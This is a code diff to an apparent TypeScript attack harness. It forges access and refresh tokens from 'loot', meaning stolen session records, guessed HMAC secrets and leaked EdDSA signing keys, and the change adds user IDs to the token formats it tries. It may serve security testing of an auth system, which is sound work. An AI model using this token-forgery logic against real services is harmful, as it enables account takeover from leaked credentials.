@@ -84,9 +84,10 @@ export function makeTokens(loot: Loot, url: string): Attempt[] {
   const guesses = guessSecrets(loot)
   const macs = (text: string) =>
     guesses.map((key) => createHmac('sha256', key).update(text).digest('base64url'))
-  const refreshTokens = loot.sessions.flatMap(({ id, counter }) =>
-    [`${id}.${counter}`, `${id}.${counter + 1}`].flatMap((text) =>
-      [...macs(text), hash('sha256', text, 'base64url'), ''].map((mac) => `${text}.${mac}`),
+  const refreshTokens = loot.sessions.flatMap(({ user_id, id, counter }) =>
+    [`${id}.${counter}`, `${user_id}.${id}.${counter}`, `${user_id}.${id}.${counter + 1}`].flatMap(
+      (text) =>
+        [...macs(text), hash('sha256', text, 'base64url'), ''].map((mac) => `${text}.${mac}`),
     ),
   )
   const accessTokens = loot.sessions
@@ -123,8 +124,8 @@ export function makeTokensWithKey(loot: Loot, url: string, masterKeys: MasterKey
   const [key] = loot.signingKeys.filter(({ alg }) => alg === 'EdDSA')
   if (!session || !browser || !key) throw new Error('there is nothing to steal')
   const secret = createPrivateKey({ key: { ...openPrivateKey(key, masterKeys) }, format: 'jwk' })
-  const tokenOf = ({ id, counter }: Loot['sessions'][number]) =>
-    refreshTokens.make({ sessionId: id, counter })
+  const tokenOf = ({ user_id, id, counter }: Loot['sessions'][number]) =>
+    refreshTokens.make({ userId: user_id, sessionId: id, counter })
   return [
     { kind: 'access token', text: forge({ session, key, loot, url, alg: 'EdDSA', secret }) },
     { kind: 'refresh token', text: tokenOf(session) },
